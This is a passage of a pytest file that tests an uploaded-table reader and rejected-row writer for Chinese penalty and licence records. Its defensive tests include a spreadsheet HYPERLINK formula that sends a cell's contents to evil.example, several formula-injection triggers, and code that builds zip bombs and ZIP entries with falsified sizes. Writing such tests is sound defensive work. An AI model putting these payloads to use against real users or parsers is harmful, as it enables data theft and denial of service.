"""Tests of reading uploaded tables and writing rejected rows (``xinyong.records.files``)."""

from __future__ import annotations

import codecs
import datetime as dt
import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import python_calamine
from openpyxl.worksheet.worksheet import Worksheet

from xinyong.errors import CodedError
from xinyong.records.files import (
    FILE_ERROR_CODES,
    SAMPLE_BYTES,
    FileError,
    HeaderMapping,
    TableReader,
    XlsxLimits,
    column_letter,
    detect_encoding,
    map_header,
    neutralise_cell,
    normalise_header,
    open_table,
    unneutralise_cell,
    write_rows_csv,
    write_rows_xlsx,
)

DATA = Path(__file__).parent / "data"
MiB = 1024 * 1024

ACCEPTED = {
    "CF_XDR_MC": "CF_XDR_MC",
    "行政相对人名称": "CF_XDR_MC",
    "CF_XDR_SHXYM": "CF_XDR_SHXYM",
    "统一社会信用代码": "CF_XDR_SHXYM",
    "CF_WSH": "CF_WSH",
    "处罚决定书文号": "CF_WSH",
    "CF_CFLB": "CF_CFLB",
    "处罚类别": "CF_CFLB",
    "CF_JDRQ": "CF_JDRQ",
    "处罚决定日期": "CF_JDRQ",
    "CF_NR_FK": "CF_NR_FK",
    "罚款金额（万元）": "CF_NR_FK",
}


def read(
    data: bytes | Path, filename: str | None = "upload.csv", **kwargs: Any
) -> tuple[TableReader, list[tuple[int, tuple[object, ...]]]]:
    source = data if isinstance(data, Path) else io.BytesIO(data)
    with open_table(source, filename=filename, **kwargs) as reader:
        return reader, list(reader)


def refused(data: bytes | Path, filename: str | None = "upload.csv", **kwargs: Any) -> FileError:
    with pytest.raises(FileError) as caught:
        read(data, filename, **kwargs)
    return caught.value


def raises(function: Callable[..., object], *args: Any, **kwargs: Any) -> FileError:
    with pytest.raises(FileError) as caught:
        function(*args, **kwargs)
    return caught.value


class RawPipe(io.RawIOBase):
    """A non-seekable stream, like a socket or an upload read in chunks."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        chunk = self._data.read(min(len(buffer), 1000))  # short reads, as a pipe gives
        buffer[: len(chunk)] = chunk
        return len(chunk)


def pipe(data: bytes) -> io.BufferedReader:
    return io.BufferedReader(RawPipe(data), buffer_size=7)


# --------------------------------------------------------------------------------------------
# Encodings
# --------------------------------------------------------------------------------------------

CHINESE_CSV = "行政相对人名称,处罚类别\r\n某某市王记餐饮有限公司,罚款\r\n张三,警告\r\n"


@pytest.mark.parametrize(
    ("encoding", "reported"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("gbk", "gb18030"), ("gb18030", "gb18030")],
)
def test_reads_chinese_csv_in_each_supported_encoding(encoding: str, reported: str) -> None:
    reader, rows = read(CHINESE_CSV.encode(encoding))
    assert reader.format == "csv"
    assert reader.encoding == reported
    assert reader.header == ("行政相对人名称", "处罚类别")  # no BOM left in the first name
    assert rows == [(2, ("某某市王记餐饮有限公司", "罚款")), (3, ("张三", "警告"))]


def test_reads_gb18030_characters_outside_gbk() -> None:
    text = "名称,备注\n㐀记商行,𠀀\n"
    with pytest.raises(UnicodeEncodeError):
        text.encode("gbk")
    reader, rows = read(text.encode("gb18030"))
    assert reader.encoding == "gb18030"
    assert rows == [(2, ("㐀记商行", "𠀀"))]


def test_detect_encoding() -> None:
    assert detect_encoding(codecs.BOM_UTF8 + "名称".encode()) == "utf-8-sig"
    assert detect_encoding("名称".encode()) == "utf-8"
    assert detect_encoding(b"plain ascii") == "utf-8"
    assert detect_encoding("名称，处罚类别".encode("gbk")) == "gb18030"


def test_detect_encoding_accepts_a_character_cut_by_the_sample_end() -> None:
    utf8 = "处罚决定书".encode()
    assert detect_encoding(utf8[:-1]) == "utf-8"  # 书 cut after 2 of its 3 bytes
    gb = "处罚".encode("gb18030") + "𠀀".encode("gb18030")
    assert len("𠀀".encode("gb18030")) == 4
    assert detect_encoding(gb[:-2]) == "gb18030"  # the 4-byte character cut in half


def test_detect_encoding_refusals_name_the_offset() -> None:
    error = raises(detect_encoding, b"ab\ncd\xff\xfe")
    assert error.code == "FILE_ENCODING_UNSUPPORTED"
    assert error.details == {"offset": 5, "line": 2}
    assert "GBK" in error.message_zh and "UTF-8" in error.message_en

    utf16 = raises(detect_encoding, "名称".encode("utf-16"))
    assert utf16.code == "FILE_ENCODING_UNSUPPORTED"
    assert "UTF-16" in utf16.message_zh

    nul = raises(detect_encoding, "a,b".encode("utf-16-le"))
    assert nul.code == "FILE_ENCODING_UNSUPPORTED"
    assert nul.details["offset"] == 1


def test_character_straddling_the_read_boundary() -> None:
    header = "名称\n".encode()
    filler = b"x" * (SAMPLE_BYTES - len(header) - 2) + b"\n"
    data = header + filler + "中文\n".encode()
    assert data[SAMPLE_BYTES - 1 : SAMPLE_BYTES + 2] == "中".encode()  # 1 byte before, 2 after
    assert detect_encoding(data[:SAMPLE_BYTES]) == "utf-8"
    reader, rows = read(data)
    assert reader.encoding == "utf-8"
    assert rows[-1] == (3, ("中文",))


def test_gbk_character_straddling_the_read_boundary() -> None:
    header = "名称\n".encode("gbk")
    filler = b"x" * (SAMPLE_BYTES - len(header) - 2) + b"\n"
    data = header + filler + "中文\n".encode("gbk")
    assert data[SAMPLE_BYTES - 1 : SAMPLE_BYTES + 1] == "中".encode("gbk")
    reader, rows = read(data)
    assert reader.encoding == "gb18030"
    assert rows[-1] == (3, ("中文",))


def test_a_late_gbk_byte_in_a_utf8_file_is_refused_with_its_line() -> None:
    lines = ["名称,代码"] + [f"某某公司{i},{i}" for i in range(5000)]
    data = "\n".join(lines).encode() + b"\n"
    assert len(data) > 100 * 1024
    data += "乙公司,5000\n".encode("gbk") + "丙公司,5001\n".encode()
    seen: list[int] = []
    with pytest.raises(FileError) as caught, open_table(io.BytesIO(data), filename="a.csv") as r:
        assert r.encoding == "utf-8"
        seen.extend(number for number, _ in r)
    error = caught.value
    assert error.code == "FILE_ENCODING_UNSUPPORTED"
    assert error.details["line"] == 5002
    assert error.details["row"] == 5002
    assert error.details["offset"] == len("\n".join(lines).encode()) + 1
    assert "5002" in error.message_zh and "UTF-8" in error.message_en
    assert seen == list(range(2, 5002))  # every row before the bad one was read


def test_a_file_ascii_for_the_first_100_kib_then_gbk_is_decoded_as_gbk() -> None:
    data = b"XK_XDR_MC,XK_XKLB\n" + b"ACME Ltd,01\n" * 10_000
    assert len(data) > 100 * 1024
    data += "某某科技有限公司,普通\n".encode("gbk") + "王记,特许\n".encode("gbk")
    reader, rows = read(data)
    assert reader.encoding == "gb18030"
    assert rows[-2:] == [(10_002, ("某某科技有限公司", "普通")), (10_003, ("王记", "特许"))]


def test_an_invalid_byte_in_a_gbk_file_is_refused_with_its_line() -> None:
    data = "名称,代码\n甲,1\n乙,2\n".encode("gbk") + b"\xff\xff,3\n"
    error = refused(data)
    assert error.code == "FILE_ENCODING_UNSUPPORTED"
    assert error.details["line"] == 4


# --------------------------------------------------------------------------------------------
# CSV structure
# --------------------------------------------------------------------------------------------


def test_tab_and_semicolon_delimiters_are_sniffed() -> None:
    reader, rows = read("名称\t日期\n甲\t2024-01-01\n".encode(), filename="export.txt")
    assert reader.delimiter == "\t"
    assert rows == [(2, ("甲", "2024-01-01"))]
    reader, rows = read(b"a;b\n1,5;2\n")
    assert reader.delimiter == ";"
    assert rows == [(2, ("1,5", "2"))]
    reader, rows = read(b"single\nvalue\n")
    assert (reader.delimiter, rows) == (",", [(2, ("value",))])


def test_quoted_newlines_commas_and_quotes() -> None:
    data = '名称,事实\n"某某公司,分店","第一行\n第二行，""引用"""\n乙,简单\n'.encode()
    _, rows = read(data)
    assert rows == [
        (2, ("某某公司,分店", '第一行\n第二行，"引用"')),
        (3, ("乙", "简单")),  # a record spanning two lines is one row, as in Excel
    ]


def test_blank_rows_are_skipped_but_counted() -> None:
    data = b"\n\na,b\r\n1,2\r\n\r\n,,\r\n  , \r\n3,4\r\n\r\n"
    reader, rows = read(data)
    assert reader.header_row == 3
    assert rows == [(4, ("1", "2")), (8, ("3", "4"))]


def test_rows_are_raw_whatever_their_length() -> None:
    _, rows = read(b"a,b\n1\n1,2,3\n1,2,\n")
    assert rows == [(2, ("1",)), (3, ("1", "2", "3")), (4, ("1", "2", ""))]


def test_classic_mac_line_endings() -> None:
    _, rows = read("名称,代码\r甲,1\r乙,2\r".encode())
    assert rows == [(2, ("甲", "1")), (3, ("乙", "2"))]


def test_a_misplaced_quote_is_malformed_with_row_and_line() -> None:
    error = refused(b'a,b\n"x\ny",1\n2,"bad"quote\n')
    assert error.code == "FILE_MALFORMED"
    assert error.details["row"] == 3
    assert error.details["line"] == 4
    assert "第 3 行" in error.message_zh and "Row 3" in error.message_en


def test_an_unclosed_quote_at_the_end() -> None:
    error = refused(b'a,b\n1,2\n3,"unclosed\n4,5\n')
    assert error.code == "FILE_MALFORMED"
    assert (error.details["row"], error.details["line"]) == (3, 3)
    assert "unclosed" in error.message_en


@pytest.mark.parametrize(
    "continuation",
    [
        pytest.param(b"x" * 40 + b"\n", id="one long field"),
        pytest.param(b'x","y\n', id="ever more fields"),  # each line opens the next quote
    ],
)
def test_an_unclosed_quote_does_not_swallow_a_large_file(continuation: bytes) -> None:
    data = b'a,b\n1,2\n3,"never closed\n' + continuation * (20 * MiB // len(continuation))
    stream = io.BytesIO(data)
    with pytest.raises(FileError) as caught:
        list(open_table(stream, filename="a.csv"))
    error = caught.value
    assert error.code == "FILE_MALFORMED"
    assert (error.details["row"], error.details["line"]) == (3, 3)
    assert stream.tell() < 3 * MiB  # refused long before the end of the 20 MiB


def test_a_huge_line_without_line_breaks_is_refused() -> None:
    error = refused(b"a," + b"x" * (5 * MiB))
    assert error.code == "FILE_MALFORMED"
    assert error.details["line"] == 1


def test_empty_files() -> None:
    assert refused(b"").code == "FILE_EMPTY"
    assert refused(codecs.BOM_UTF8).code == "FILE_EMPTY"
    assert refused(b"\r\n\r\n,,\r\n").code == "FILE_EMPTY"


def test_a_header_only_file_has_no_rows() -> None:
    reader, rows = read("名称,代码\n\n".encode())
    assert reader.header == ("名称", "代码")
    assert rows == []


def test_too_large() -> None:
    data = b"a,b\n" + b"1,2\n" * 1000
    error = refused(data, max_bytes=1000)
    assert error.code == "FILE_TOO_LARGE"
    assert error.status == 413
    assert error.details["size"] == len(data)
    with pytest.raises(FileError) as caught:
        list(open_table(pipe(data), filename="a.csv", max_bytes=1000))
    assert caught.value.code == "FILE_TOO_LARGE"


def test_a_non_seekable_stream_is_read() -> None:
    reader = open_table(pipe(CHINESE_CSV.encode("gbk")), filename="a.csv")
    assert reader.total_bytes is None and reader.progress is None
    assert [n for n, _ in reader] == [2, 3]


def test_a_stream_is_read_from_its_position_and_left_open() -> None:
    stream = io.BytesIO(b"junk" + CHINESE_CSV.encode())
    stream.seek(4)
    with open_table(stream, filename="a.csv") as reader:
        assert reader.header == ("行政相对人名称", "处罚类别")
        assert reader.total_bytes == len(CHINESE_CSV.encode())
        assert len(list(reader)) == 2
    assert not stream.closed


def test_progress_counts_bytes() -> None:
    data = b"a,b\n" + b"1,2\n" * 100_000
    with open_table(io.BytesIO(data), filename="a.csv") as reader:
        assert reader.total_bytes == len(data)
        assert reader.progress is not None and reader.progress < 0.5
        seen = [reader.bytes_read for _ in reader]
    assert seen[0] < seen[-1] == len(data)
    assert reader.progress == 1.0


def test_streaming_keeps_memory_flat(tmp_path: Path) -> None:
    """200,000 rows (over 25 MiB of GBK) pass through with less than 20 MiB traced."""
    path = tmp_path / "penalties.csv"
    with path.open("w", encoding="gbk", newline="") as f:
        f.write("行政相对人名称,统一社会信用代码,处罚决定书文号,处罚类别,处罚决定日期,违法事实\r\n")
        for i in range(200_000):
            f.write(
                f"某某市某某区第{i}号食品经营有限公司,91110105MA01{i:06d},"
                f"京朝市监罚〔2024〕{i}号,警告;罚款,2024-03-05,"
                "当事人未按规定公示即时信息，违反了《企业信息公示暂行条例》第十条的规定\r\n"
            )
    assert path.stat().st_size > 25 * MiB
    tracemalloc.start()
    try:
        with open_table(path) as reader:
            count = 0
            for last, cells in reader:  # noqa: B007 (last is used after the loop)
                count += 1
                assert len(cells) == 6
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (reader.encoding, count, last) == ("gb18030", 200_000, 200_001)
    assert peak < 20 * MiB


# --------------------------------------------------------------------------------------------
# File types
# --------------------------------------------------------------------------------------------


def test_old_xls_is_refused_with_a_save_as_hint() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    for name in ("report.xls", "report.xlsx", "report.csv"):
        error = refused(ole, name)
        assert error.code == "FILE_TYPE_UNSUPPORTED"
        assert error.status == 415
        assert ".xlsx" in error.message_zh and "Save As" in error.message_en
    # Many systems export a web page or text under .xls: the extension alone refuses it.
    assert refused(b"<html><table>", "report.xls").code == "FILE_TYPE_UNSUPPORTED"


def test_random_bytes_are_refused() -> None:
    noise = random.Random(20240101).randbytes(4096)
    assert refused(noise, "upload.xlsx").code == "XLSX_INVALID"
    assert refused(noise, "upload.csv").code == "FILE_ENCODING_UNSUPPORTED"
    assert refused(b"PK\x03\x04" + noise, "upload.xlsx").code == "XLSX_INVALID"
    assert refused(b"%PDF-1.7", "scan.pdf").code == "FILE_TYPE_UNSUPPORTED"


def test_a_renamed_csv_is_not_a_workbook() -> None:
    error = refused(CHINESE_CSV.encode(), "data.xlsx")
    assert error.code == "XLSX_INVALID"
    assert "CSV" in error.message_en


def test_other_zip_formats() -> None:
    def archive(*names: str) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            for name in names:
                z.writestr(name, "<x/>")
        return out.getvalue()

    assert refused(archive("word/document.xml"), "a.xlsx").code == "XLSX_INVALID"
    assert refused(archive("content.xml", "mimetype"), "a.xlsx").code == "FILE_TYPE_UNSUPPORTED"
    assert refused(archive("xl/workbook.bin"), "a.xlsx").code == "FILE_TYPE_UNSUPPORTED"


# --------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------


def workbook_bytes(fill: Callable[[Worksheet], None]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    fill(sheet)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rewrite(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = src.read(info)
            dst.writestr(info, change(content) if info.filename == member else content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def with_sheet_data(rows_xml: bytes) -> bytes:
    """A workbook whose first sheet holds exactly this ``<sheetData>`` content."""
    base = workbook_bytes(lambda s: None)
    return rewrite(
        base,
        SHEET,
        lambda xml: (
            xml.split(b"<sheetData")[0] + b"<sheetData>" + rows_xml + b"</sheetData></worksheet>"
        ),
    )


def test_xlsx_values() -> None:
    def fill(sheet: Worksheet) -> None:
        sheet.append(
            ["行政相对人名称", "处罚决定日期", "决定时间", "罚款", "证件号码", "编号", "计算"]
        )
        sheet.append(
            [
                "某某公司",
                dt.date(2024, 3, 5),
                dt.datetime(2024, 3, 5, 9, 30),
                1.5,
                "110101199003071234",  # a long digit string kept as text
                "0012",
                "=1+2",
            ]
        )
        sheet.append(["张三", 20240306, None, 2, 110101199003071234, True, "=A1"])

    data = rewrite(workbook_bytes(fill), SHEET, lambda x: x.replace(b"<v />", b"<v>3</v>", 1))
    reader, rows = read(data, "upload.xlsx")
    assert (reader.format, reader.encoding, reader.sheet_name) == ("xlsx", None, "Sheet")
    assert reader.header == (
        "行政相对人名称",
        "处罚决定日期",
        "决定时间",
        "罚款",
        "证件号码",
        "编号",
        "计算",
    )
    assert rows[0] == (
        2,
        (
            "某某公司",
            dt.date(2024, 3, 5),
            dt.datetime(2024, 3, 5, 9, 30),
            1.5,
            "110101199003071234",
            "0012",
            3,  # the formula's cached value
        ),
    )
    number, cells = rows[1]
    assert number == 3
    assert cells[:2] == ("张三", 20240306)
    assert type(cells[1]) is int  # integral float -> int, so "20240306" survives
    assert cells[2] is None
    assert type(cells[3]) is int
    # 18 digits typed as a number lost digits in Excel: left a float for the caller to refuse.
    assert isinstance(cells[4], float)
    assert cells[5] is True
    assert len(cells) == 6  # a formula without a cached value reads as empty, then trimmed


def test_xlsx_row_numbers_and_column_letters_follow_the_sheet() -> None:
    def fill(sheet: Worksheet) -> None:
        sheet["C3"] = "名称"
        sheet["D3"] = "代码"
        sheet["C4"] = "甲"
        sheet["C6"] = "乙"
        sheet["D6"] = "2"

    reader, rows = read(workbook_bytes(fill), "upload.xlsx")
    assert reader.header_row == 3
    assert reader.header == ("", "", "名称", "代码")  # column C stays the third column
    assert rows == [(4, (None, None, "甲")), (6, (None, None, "乙", "2"))]
    assert (reader.bytes_read, reader.total_bytes, reader.progress) == (6, 6, 1.0)


def test_xlsx_reads_the_first_visible_sheet() -> None:
    workbook = openpyxl.Workbook()
    visible = workbook.active
    assert isinstance(visible, Worksheet)
    visible.title = "数据"
    visible.append(["名称"])
    visible.append(["甲"])
    hidden = workbook.create_sheet("说明", 0)
    hidden.append(["填表说明"])
    hidden.sheet_state = "hidden"
    out = io.BytesIO()
    workbook.save(out)
    reader, rows = read(out.getvalue(), "upload.xlsx")
    assert reader.sheet_name == "数据"
    assert rows == [(2, ("甲",))]


def test_xlsx_without_a_visible_sheet() -> None:
    data = rewrite(
        workbook_bytes(lambda s: s.append(["a"])),
        "xl/workbook.xml",
        lambda xml: xml.replace(b'state="visible"', b'state="hidden"'),
    )
    assert refused(data, "a.xlsx").code == "XLSX_NO_SHEET"


def test_xlsx_empty_sheet() -> None:
    error = refused(workbook_bytes(lambda s: None), "a.xlsx")
    assert error.code == "FILE_EMPTY"
    assert error.details == {"sheet": "Sheet"}


def test_xlsx_renamed_or_without_a_name_is_read_by_its_content() -> None:
    data = workbook_bytes(lambda s: s.append(["名称"]))
    assert read(data, "upload.csv")[0].format == "xlsx"
    assert read(data, None)[0].format == "xlsx"
    assert open_table(pipe(data)).header == ("名称",)


def test_zip_bomb_by_total_size(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(workbook_bytes(lambda s: s.append(["a"])))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z, z.open("xl/media/a.bin", "w") as f:
        zeros = bytes(MiB)
        for _ in range(150):
            f.write(zeros)
    assert path.stat().st_size < MiB
    error = refused(path, None)
    assert error.code == "XLSX_ZIP_BOMB"
    assert error.details["uncompressed"] > 150 * MiB
    assert "CSV" in error.message_zh


def test_zip_bomb_by_one_member() -> None:
    out = io.BytesIO(workbook_bytes(lambda s: s.append(["a"])))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/a.bin", bytes(20 * MiB))  # under the 100 MiB floor in total
    error = refused(out.getvalue(), "a.xlsx")
    assert error.code == "XLSX_ZIP_BOMB"
    assert error.details["member"] == "xl/media/a.bin"


def central_header(data: bytes | bytearray, name: bytes) -> int:
    """Offset of the central directory entry of member ``name``."""
    position = data.index(b"PK\x01\x02")
    while data[position + 46 : position + 46 + len(name)] != name:
        position = data.index(b"PK\x01\x02", position + 1)
    return position


def test_a_member_larger_than_its_header_says_is_refused() -> None:
    """A lying size is the classic bomb against readers that trust it; calamine's does."""
    out = io.BytesIO(workbook_bytes(lambda s: s.append(["a"])))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/a.bin", bytes(MiB))
        local = z.getinfo("xl/media/a.bin").header_offset
    data = bytearray(out.getvalue())
    central = central_header(data, b"xl/media/a.bin")
    crc = struct.pack("<L", zlib.crc32(bytes(1000)))  # consistent with the lie
    for header, crc_at, size_at in ((central, 16, 24), (local, 14, 22)):
        data[header + crc_at : header + crc_at + 4] = crc
        data[header + size_at : header + size_at + 4] = struct.pack("<L", 1000)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        assert z.getinfo("xl/media/a.bin").file_size == 1000
        assert z.read("xl/media/a.bin") == bytes(1000)  # Python's zipfile is fooled
    error = refused(bytes(data), "a.xlsx")
    assert error.code == "XLSX_INVALID"
    assert error.details["member"] == "xl/media/a.bin"


def test_a_corrupt_member_is_invalid() -> None:
    data = bytearray(workbook_bytes(lambda s: s.append(["名称"] * 50)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data[middle : middle + 8] = b"\xff" * 8
    error = refused(bytes(data), "a.xlsx")
    assert error.code == "XLSX_INVALID"
    assert error.details["member"] == SHEET


def test_a_password_protected_member_is_invalid() -> None:
    data = bytearray(workbook_bytes(lambda s: s.append(["名称"])))
    central = central_header(data, SHEET.encode())
    data[central + 8] |= 0x1  # the "encrypted" flag
    error = refused(bytes(data), "a.xlsx")
    assert error.code == "XLSX_INVALID"
    assert "密码" in error.message_zh


@pytest.mark.parametrize(
    "rows_xml",
    [
        pytest.param(b'<row r="2000001"><c r="A2000001"><v>1</v></c></row>', id="rows"),
        pytest.param(b'<row r="1"><c r="GS1"><v>1</v></c></row>', id="201 columns"),
        pytest.param(
            b'<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>',
            id="one far cell",  # calamine would allocate 17 billion cells
        ),
        pytest.param(b'<row r="1"><c r="A5000000"><v>1</v></c></row>', id="cell below row"),
        pytest.param(b"<row>" + b"<c><v>1</v></c>" * 201 + b"</row>", id="no references"),
        pytest.param(b'<x:row r="1"><x:c r="ZZ1"><x:v>1</x:v></x:c></x:row>', id="prefixed"),
    ],
)
def test_too_many_cells_is_refused_before_calamine_allocates(rows_xml: bytes) -> None:
    error = refused(with_sheet_data(rows_xml), "a.xlsx")
    assert error.code == "XLSX_TOO_MANY_CELLS"
    assert error.details["member"] == SHEET
    assert "200" in error.message_zh and "CSV" in error.message_en


def test_cell_limits_count_cells_with_values_only() -> None:
    rows_xml = b"".join(
        f'<row r="{r}">'.encode()
        + b"".join(f'<c r="{column_letter(c)}{r}"><v>1</v></c>'.encode() for c in range(10))
        + b"</row>"
        for r in range(1, 11)
    )
    limits = XlsxLimits(max_cells=100)
    _, rows = read(with_sheet_data(rows_xml), "a.xlsx", xlsx_limits=limits)
    assert len(rows) == 9
    styled_empty = rows_xml + b'<row r="11"><c r="ZZ11" s="0"/></row>'
    assert len(read(with_sheet_data(styled_empty), "a.xlsx", xlsx_limits=limits)[1]) == 9
    one_more = rows_xml + b'<row r="11"><c r="A11"><v>1</v></c></row>'
    error = refused(with_sheet_data(one_more), "a.xlsx", xlsx_limits=limits)
    assert (error.code, error.details["rows"], error.details["columns"]) == (
        "XLSX_TOO_MANY_CELLS",
        11,
        10,
    )


def test_sample_files() -> None:
    for name in ("penalties_gbk.csv", "penalties_gb18030.csv"):
        reader, rows = read(DATA / name, None)
        mapping = map_header(reader.header, ACCEPTED, required=["CF_XDR_MC", "CF_WSH"])
        assert mapping.field_index["CF_WSH"] == 2
        assert len(rows) == 3
    assert read(DATA / "penalties_gb18030.csv", None)[1][0][1][0] == "某某市㐀记餐饮有限公司"
    expected = read(DATA / "licences_utf8_bom.csv", None)
    assert expected[0].encoding == "utf-8-sig"
    tab = read(DATA / "licences_tab.txt", None)
    assert (tab[0].header, tab[1]) == (expected[0].header, expected[1])
    xlsx = read(DATA / "licences.xlsx", None)
    assert xlsx[0].header == expected[0].header
    assert xlsx[1][0][1][5] == dt.date(2024, 1, 2)
    assert [cells[:5] for _, cells in xlsx[1]] == [cells[:5] for _, cells in expected[1]]


# --------------------------------------------------------------------------------------------
# Header mapping
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "normal"),
    [
        ("CF_XDR_MC", "cf_xdr_mc"),
        ("cf_xdr_mc", "cf_xdr_mc"),
        ("ＣＦ＿ＸＤＲ＿ＭＣ", "cf_xdr_mc"),
        ("\ufeff行政相对人名称", "行政相对人名称"),
        (" 行政相对人名称* ", "行政相对人名称"),
        ("*行政相对人名称", "行政相对人名称"),
        ("行政相对人名称＊", "行政相对人名称"),
        ("行政相对人名称（必填）", "行政相对人名称"),
        ("行政相对人名称\n(必填)", "行政相对人名称"),
        ("行政相对人\u3000名称", "行政相对人名称"),
        ("罚款金额（万元）", "罚款金额(万元)"),
        ("罚款金额（万元）*", "罚款金额(万元)"),
    ],
)
def test_normalise_header(text: str, normal: str) -> None:
    assert normalise_header(text) == normal


def test_map_header_by_code_name_and_variants() -> None:
    header = ["ｃｆ＿ｘｄｒ＿ｍｃ", "统一社会信用代码*", "处罚决定书文号（必填）", "", "cf_jdrq"]
    mapping = map_header(header, ACCEPTED, required=["CF_XDR_MC", "CF_WSH", "CF_JDRQ"])
    assert mapping == HeaderMapping(
        columns=("CF_XDR_MC", "CF_XDR_SHXYM", "CF_WSH", None, "CF_JDRQ")
    )
    assert mapping.field_index == {"CF_XDR_MC": 0, "CF_XDR_SHXYM": 1, "CF_WSH": 2, "CF_JDRQ": 4}


def test_map_header_duplicates() -> None:
    error = raises(map_header, ["CF_XDR_MC", "处罚类别", "行政相对人名称*"], ACCEPTED)
    assert error.code == "COLUMN_DUPLICATE"
    assert error.details["duplicates"] == {"CF_XDR_MC": ["A", "C"]}
    assert "第 C 列" in error.message_zh and "column C" in error.message_en


def test_map_header_unknown_with_suggestions() -> None:
    header = ["行政相对人名", "CF_WSH", "备注说明"]
    error = raises(map_header, header, ACCEPTED)
    assert error.code == "COLUMN_UNKNOWN"
    assert error.details["unknown"] == ["行政相对人名", "备注说明"]
    assert error.details["suggestions"]["行政相对人名"] == ["行政相对人名称"]
    assert "行政相对人名称" in error.message_zh and "did you mean" in error.message_en

    mapping = map_header(header, ACCEPTED, ignore_unknown=True)
    assert mapping.columns == (None, "CF_WSH", None)
    assert mapping.unknown == ("行政相对人名", "备注说明")


def test_map_header_missing_required() -> None:
    error = raises(map_header, ["CF_XDR_MC"], ACCEPTED, required=["CF_XDR_MC", "CF_WSH"])
    assert error.code == "COLUMN_MISSING"
    assert error.details["missing"] == ["CF_WSH"]
    assert "CF_WSH（处罚决定书文号）" in error.message_zh


def test_map_header_reports_every_problem_at_once() -> None:
    error = raises(map_header, ["CF_WSH", "CF_WSH", "名字"], ACCEPTED, required=["CF_XDR_MC"])
    assert error.code == "COLUMN_DUPLICATE"
    assert set(error.details) == {"duplicates", "unknown", "suggestions", "missing"}


def test_map_header_without_any_known_column_is_no_header() -> None:
    error = raises(map_header, ["2024年行政处罚信息汇总表", "", ""], ACCEPTED, ignore_unknown=True)
    assert error.code == "FILE_NO_HEADER"
    assert "标题行" in error.message_zh


def test_map_header_refuses_an_ambiguous_catalog() -> None:
    with pytest.raises(ValueError, match="two fields"):
        map_header(["a"], {"名称": "A", "名称*": "B"})


# --------------------------------------------------------------------------------------------
# Formula injection and writing
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1+2", "＋1", "－1", "＠x"]
)
def test_neutralise_cell_triggers(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    assert unneutralise_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize(
    "value",
    ["某某公司", "1+2", "", " =x", "'quoted", -1, 2.5, None, True, dt.date(2024, 1, 1)],
)
def test_neutralise_cell_leaves_others(value: object) -> None:
    assert neutralise_cell(value) == value
    assert unneutralise_cell(value) == value


def test_write_rows_xlsx_round_trip(tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    aware = dt.datetime(2024, 1, 1, 8, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    rows = [
        [2, hyperlink, "-5", "+86 10 1234", "@cmd", "正常", None, "错误：日期无效"],
        [3, dt.date(2024, 3, 5), 110101199003071234, 1.5, "a\x00b\x1f", aware, "＝1", "x" * 40000],
    ]
    header = ["行号", "=名称", "B", "C", "D", "E", "F", "错误"]
    path = tmp_path / "rejected.xlsx"
    write_rows_xlsx(path, header, iter(rows), sheet_title="被拒绝的行[1]")

    sheet = python_calamine.CalamineWorkbook.from_path(path).get_sheet_by_index(0)
    values = sheet.to_python()
    assert values[0][1] == "'=名称"
    assert values[1][:8] == [
        2,
        "'" + hyperlink,
        "'-5",
        "'+86 10 1234",
        "'@cmd",
        "正常",
        "",
        "错误：日期无效",
    ]
    assert values[2][1] == dt.date(2024, 3, 5)
    assert values[2][2] == "110101199003071234"  # too long for an Excel number: text
    assert values[2][4] == "a\ufffdb\ufffd"
    assert values[2][5] == "2024-01-01T08:00:00+08:00"
    assert values[2][6] == "'＝1"
    assert len(str(values[2][7])) == 32767

    book = openpyxl.load_workbook(path)
    sheet_ = book.active
    assert isinstance(sheet_, Worksheet)
    assert sheet_.title == "被拒绝的行_1_"
    assert all(cell.data_type != "f" for row in sheet_.iter_rows() for cell in row)
    assert sheet_["B2"].value == "'" + hyperlink
    assert sheet_["A1"].font.b and sheet_.freeze_panes == "A2"


def test_write_rows_xlsx_to_a_stream_is_readable_as_an_upload() -> None:
    out = io.BytesIO()
    write_rows_xlsx(out, ["名称", "错误"], [["=1+1", "格式错误"]])
    reader, rows = read(out.getvalue(), "rejected.xlsx")
    assert reader.header == ("名称", "错误")
    assert rows == [(2, ("'=1+1", "格式错误"))]
    assert unneutralise_cell(rows[0][1][0]) == "=1+1"


def test_write_rows_csv() -> None:
    out = io.StringIO()
    write_rows_csv(
        out,
        ["名称", "日期", "金额", "错误"],
